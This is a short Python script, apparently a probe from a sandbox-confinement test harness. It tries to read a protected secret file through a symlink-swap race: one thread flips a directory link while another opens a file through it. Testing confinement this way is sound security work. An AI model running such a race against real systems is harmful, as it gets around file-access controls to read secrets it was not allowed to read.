# Swaps a folder on the path for a link to the folder of the secret while another thread opens the file.
import os
import threading
import time


def attempt():
    name = os.path.basename(given["secret"])
    os.mkdir(in_work("real"))
    write(os.path.join(in_work("real"), name), b"innocent")
    os.symlink("real", in_work("way"))
    is_over = threading.Event()

    def swap():
        while not is_over.is_set():
            for target in (given["secret_dir"], "real"):
                os.symlink(target, in_work("next"))
                os.rename(in_work("next"), in_work("way"))

    swapper = threading.Thread(target=swap)
    swapper.start()
    last, until = None, time.monotonic() + 2
    try:
        while time.monotonic() < until:
            try:
                return secret_in(read(os.path.join(in_work("way"), name)))
            except (OSError, Nothing) as error:
                last = error if isinstance(error, OSError) else last
        raise last or Nothing("only the innocent file was read")
    finally:
        is_over.set()
        swapper.join()


outcome = tried(attempt)
